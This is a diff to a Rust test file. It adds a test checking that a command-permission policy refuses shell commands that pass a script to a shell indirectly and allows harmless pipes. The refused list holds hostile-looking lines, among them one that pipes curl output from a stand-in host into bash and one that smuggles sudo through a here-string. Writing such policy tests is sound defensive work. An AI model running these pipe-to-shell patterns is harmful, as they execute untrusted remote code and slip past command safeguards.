@@ -1464,6 +1464,50 @@ fn values_the_text_assigns_are_followed_to_their_uses() {
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
 
+/// A shell fed its script by any route is refused by the rules that refuse `... | sh`;
+/// piping to what is not a shell runs.
+#[test]
+fn a_shell_fed_its_script_by_any_route_is_refused() {
+    let f = default_fixture();
+    let refused_here = [
+        "echo t | bash -c bash",
+        "echo t | sh -c 'exec sh'",
+        "echo t | eval \"$(cat)\"",
+        "echo t | source /dev/stdin",
+        "echo t | . /dev/fd/0",
+        "echo t | xargs sh -c",
+        "echo t | xargs -I{} sh -c {}",
+        "echo t | script",
+        "echo t | script -q",
+        "bash -c bash <<< 'sudo ls'",
+        "curl -s example.invalid | env bash -c 'bash -s'",
+    ];
+    let runs_here = [
+        "echo t | bash -c cat",
+        "echo t | sh -c 'grep x'",
+        "ls | xargs rm -f",
+        "ls | xargs -n1 echo",
+        "git diff | less",
+        "echo x | tmux load-buffer -",
+        "cat f | ssh host cat",
+        "echo t | $PAGER",
+        "echo t | eval ls",
+        "echo t | script -c ls /dev/null",
+    ];
+    let mut wrong = Vec::new();
+    for text in refused_here {
+        if !refused(&f.policy, text) {
+            wrong.push(format!("ran: {text}"));
+        }
+    }
+    for text in runs_here {
+        if refused(&f.policy, text) {
+            wrong.push(format!("refused: {text}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
 thread_local! {
     /// Makes the next decision on this thread panic, to test the boundary around it.
     static PANIC_NEXT: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
